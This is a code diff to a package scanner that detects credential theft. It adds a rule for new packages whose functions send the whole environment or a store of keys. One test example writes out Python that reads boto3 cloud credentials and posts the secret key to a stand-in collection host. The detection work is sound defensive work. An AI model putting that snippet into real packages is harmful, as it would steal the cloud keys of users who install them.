@@ -6,9 +6,10 @@ environment to a connection or a DNS query, that the line never had; a command t
 connects is a connection too. *data* means that the value itself was followed,
 *scope* that both stand in one function. Several different secrets, or a destination of a suspicious sort (raw
 address, webhook, messenger, paste site, tunnel, hidden name), make it a harvest.
-At first contact only flows in code that runs by itself are asked, and an ordinary one weighs little: installers do
+At first contact flows in code that runs by itself are asked, and an ordinary one weighs little: installers do
 send a token to the service that issued it. An installation that sends the content of a credential file, or a token to
-a host that has nothing to do with its name, is no ordinary one.
+a host that has nothing to do with its name, is no ordinary one. Of functions only those are told that send the whole
+environment, or what a file or a store of keys holds: a variable may be a setting of the very service that it goes to.
 
 ## Why it matters
 32 of 75 documented incidents read credential paths or the environment; the stolen tokens publish the next ones.
@@ -24,9 +25,9 @@ always sent a token somewhere and now send it elsewhere in plain sight.
 from collections.abc import Iterator
 
 from lazaretto.core.destination import destination, own_service
-from lazaretto.core.facts import Kind, Reach
+from lazaretto.core.facts import Fact, Kind, Reach
 from lazaretto.core.finding import Card, Example, Finding
-from lazaretto.core.question import AUTORUN, Chain, Tally, decoded, hidden, new_chains, package_json
+from lazaretto.core.question import AUTORUN, Chain, Tally, decoded, hidden, in_tests, new_chains, package_json
 from lazaretto.core.update import Pair, Update
 
 CARD = Card(
@@ -44,6 +45,7 @@ CARD = Card(
         "first-contact-harvest": "No earlier release; what runs by itself sends several secrets or hides where to.",
         "first-contact-taken": "No earlier release; a credential is taken to a host that it does not belong to.",
         "first-contact": "No earlier release; code that runs by itself sends a secret.",
+        "first-contact-call": "No earlier release; a function sends the whole environment, or a store of keys.",
     },
     group="flow",
     why="What is read here belongs to whoever installs the package.",
@@ -158,6 +160,17 @@ EXAMPLES = (
         at="install.js:1",
     ),
     Example(
+        title="first contact with a function that sends the keys of a cloud",
+        ecosystem="pypi",
+        after={
+            "pad/__init__.py": "import boto3, requests\nWIDTH = 2\ndef connect():\n"
+            "    keys = boto3.Session().get_credentials()\n"
+            "    requests.post('https://collect.invalid/in', json={'k': keys.secret_key})\n",
+        },
+        expect="first-contact-call",
+        at="pad/__init__.py:4",
+    ),
+    Example(
         title="first contact with an installer that downloads with the environment it was given",
         after={
             **_INSTALLED,
@@ -193,6 +206,7 @@ _MESSAGES = {
     "first-contact-harvest": "sends secrets to the network without being called",
     "first-contact-taken": "sends a credential to a host that it does not belong to, without being called",
     "first-contact": "sends a secret to the network without being called",
+    "first-contact-call": "sends the whole environment, or what a store of keys holds, when it is called",
 }
 
 
@@ -219,6 +233,8 @@ def _judge(pair: Pair, found: list[tuple[Chain, bool]]) -> Iterator[tuple[str, C
                 if autorun:
                     plain = "first-contact-taken" if _is_taken(chain) else "first-contact"
                     yield "first-contact-harvest" if harvest else plain, chain
+                elif chain.data and not in_tests(chain.source.path) and _is_store(chain.source.fact):
+                    yield "first-contact-call", chain
             elif harvest:
                 yield "harvest" if autorun else "call-harvest", chain
             elif new_kind and not autorun and chain.data and chain.source.fact.kind is Kind.ENV_DUMP:
@@ -241,6 +257,11 @@ def _is_taken(chain: Chain) -> bool:
         return False
     own = own_service(chain.source.fact.value or "", chain.sink.fact.value)
     return own is not True if chain.command else own is False and chain.reach is Reach.INSTALL
+
+
+def _is_store(fact: Fact) -> bool:
+    """Whether what is read is the whole environment, or no variable that a caller sets for this very purpose."""
+    return fact.kind is Kind.ENV_DUMP or not (fact.value or "X").replace("_", "").isalnum()
 
 
 def _is_harvest(found: list[Chain]) -> bool:
